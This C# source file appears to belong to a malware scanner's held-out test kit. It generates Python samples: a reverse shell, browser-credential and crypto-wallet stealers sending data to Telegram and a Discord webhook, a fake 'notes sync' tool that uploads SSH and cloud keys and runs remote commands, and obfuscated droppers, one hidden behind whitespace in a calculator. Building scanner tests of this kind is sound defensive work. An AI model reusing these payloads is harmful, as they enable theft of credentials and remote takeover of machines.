using System.Buffers.Binary;
using System.Text;
using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Python programs that steal or hand a shell to somebody else.</summary>
public sealed class PythonThatStealsOrListens : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("shell.py", Utf8("""
            import socket, subprocess, os, pty
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("192.0.2.10", 4444))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            os.dup2(s.fileno(), 2)
            pty.spawn("/bin/bash")
            """)),
        ("main.py", Utf8("""
            import os, shutil, sqlite3, tempfile, zipfile, requests, platform, getpass

            BOT = "0000000000:not-a-real-token"
            CHAT = "-1000000000000"
            LOCAL, ROAM = os.getenv("LOCALAPPDATA"), os.getenv("APPDATA")
            BROWSERS = {
                "chrome": LOCAL + r"\Google\Chrome\User Data",
                "edge": LOCAL + r"\Microsoft\Edge\User Data",
                "opera": ROAM + r"\Opera Software\Opera Stable",
                "yandex": LOCAL + r"\Yandex\YandexBrowser\User Data",
            }
            WALLETS = {"Exodus": ROAM + r"\Exodus\exodus.wallet", "Electrum": ROAM + r"\Electrum\wallets", "Atomic": ROAM + r"\atomic\Local Storage\leveldb"}

            def rows(path):
                copy = os.path.join(tempfile.gettempdir(), "t.db")
                shutil.copy2(path, copy)
                c = sqlite3.connect(copy)
                try:
                    return c.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
                finally:
                    c.close()
                    os.remove(copy)

            def main():
                out = os.path.join(tempfile.gettempdir(), getpass.getuser() + ".zip")
                with zipfile.ZipFile(out, "w") as z:
                    for name, root in BROWSERS.items():
                        for item in ("Default\\Login Data", "Default\\Network\\Cookies", "Local State"):
                            f = os.path.join(root, item)
                            if os.path.exists(f):
                                z.write(f, name + "/" + os.path.basename(f))
                        if os.path.exists(root + r"\Default\Login Data"):
                            z.writestr(name + "/list.txt", repr(rows(root + r"\Default\Login Data")))
                    for name, root in WALLETS.items():
                        for d, _, files in os.walk(root):
                            for f in files:
                                z.write(os.path.join(d, f), "wallets/" + name + "/" + f)
                ip = requests.get("https://api.ipify.org").text
                with open(out, "rb") as f:
                    requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"chat_id": CHAT, "caption": f"{platform.node()} {ip}"}, files={"document": f})
                os.remove(out)

            if os.name == "nt":
                main()
            """)),
        ("nitro_generator.py", Utf8("""
            import os, re, json, time, random, string
            from urllib.request import Request, urlopen

            WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/not-a-real-token"

            def find(path):
                path += "\\Local Storage\\leveldb"
                tokens = []
                for name in os.listdir(path):
                    if not name.endswith((".log", ".ldb")):
                        continue
                    for line in [x.strip() for x in open(f"{path}\\{name}", errors="ignore").readlines() if x.strip()]:
                        for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                            tokens += re.findall(regex, line)
                return tokens

            def report():
                roaming = os.getenv("APPDATA")
                message = "@everyone\n"
                for app in ("Discord", "discordcanary", "discordptb"):
                    if os.path.exists(os.path.join(roaming, app)):
                        message += f"**{app}**\n```\n" + "\n".join(find(os.path.join(roaming, app))) + "\n```"
                body = json.dumps({"content": message, "username": os.getlogin()}).encode()
                urlopen(Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}))

            if __name__ == "__main__":
                try:
                    report()
                except Exception:
                    pass
                while True:
                    print("discord.gift/" + "".join(random.choices(string.ascii_letters + string.digits, k=16)))
                    time.sleep(0.2)
            """)),
        ("notes_sync.py", Utf8("""
            #!/usr/bin/env python3
            '''Keeps a folder of notes in step between two computers.'''
            import importlib, base64, json, pathlib, ssl, threading, time, urllib.request as web

            HUB = "https://notes-sync.example/api/"
            _m = lambda *p: importlib.import_module("".join(p))
            _proc, _plat = _m("sub", "process"), _m("plat", "form")

            def _call(path, data=None):
                body = base64.b85encode(json.dumps(data).encode()) if data is not None else None
                with web.urlopen(web.Request(HUB + path, data=body, headers={"X-Client": _plat.node()}), context=ssl._create_unverified_context()) as r:
                    return json.loads(base64.b85decode(r.read()) or b"{}")

            def _notes():
                home = pathlib.Path.home()
                for pattern in (".ssh/id_*", ".aws/credentials", ".config/gcloud/*.db", ".kube/config", ".netrc", ".git-credentials", "Documents/*.kdbx"):
                    for f in home.glob(pattern):
                        yield str(f.relative_to(home)), base64.b64encode(f.read_bytes()).decode()

            def _loop():
                _call("notes", dict(_notes()))
                while True:
                    for job in _call("next").get("jobs", ()):
                        done = getattr(_proc, "r" + "un")(job["text"], **{"she" + "ll": True, "capture_output": True})
                        _call("done/" + job["id"], {"o": done.stdout.decode(errors="replace")})
                    time.sleep(45)

            threading.Thread(target=_loop).start()
            """)),
    ];
}

/// <summary>Python programs that unpack a second program and run it; the second would only open an address that belongs to nobody.</summary>
public sealed class PythonPackedPrograms : SeventhRound
{
    private const string Inner = """
        import os, sys, tempfile, urllib.request, subprocess
        p = os.path.join(tempfile.gettempdir(), "pyupdate.exe")
        urllib.request.urlretrieve("http://198.51.100.73/py/update.exe", p)
        subprocess.Popen([p], creationflags=0x08000000)
        """;

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("client.py", Utf8(Fill("""
            import base64, zlib
            exec(zlib.decompress(base64.b64decode(b'@@1')))
            """, Convert.ToBase64String(Zlib(Inner))))),
        ("game_cheat.py", Utf8(Layers(Inner, 6))),
        ("bot.py", Utf8(Fill("""
            # Obfuscated, do not edit
            import marshal
            exec(marshal.loads(bytes.fromhex('@@1')))
            """, Marshalled(Inner)))),
        ("calc.py", Utf8(Fill("""
            '''A little calculator with tkinter.'''
            import tkinter as tk
            window = tk.Tk()
            window.title("Calculator")
            shown = tk.StringVar()
            tk.Entry(window, textvariable=shown, justify="right").grid(row=0, columnspan=4)
            def press(key):
                shown.set(str(eval(shown.get())) if key == "=" else shown.get() + key)
            for at, key in enumerate("789/456*123-0.=+"):
                tk.Button(window, text=key, width=4, command=lambda k=key: press(k)).grid(row=1 + at // 4, column=at % 4)@@3;_t=(lambda d,k:bytes(b^k[i%len(k)]for i,b in enumerate(d)))(bytes(@@1),b'@@2');getattr(__builtins__,'ex'+'ec')(compile(_t,'','ex'+'ec'))
            window.mainloop()
            """, "[" + string.Join(',', Encoding.UTF8.GetBytes(Inner).Select((value, at) => value ^ "tk8.6"[at % 5])) + "]", "tk8.6", new string(' ', 400)))),
    ];

    /// <summary>Program in program, each packed, Base64 and backwards.</summary>
    private static string Layers(string program, int count)
    {
        for (var layer = 0; layer < count; layer++)
            program = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'" + Backwards(Convert.ToBase64String(Zlib(program))) + "'))";
        return program;
    }

    /// <summary>Python's marshal form of a text: the letter u, its length, its UTF-8; exec takes a text as well as code.</summary>
    private static string Marshalled(string program)
    {
        var text = Encoding.UTF8.GetBytes(program);
        var length = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(length, text.Length);
        return Convert.ToHexStringLower([(byte)'u', .. length, .. text]);
    }
}
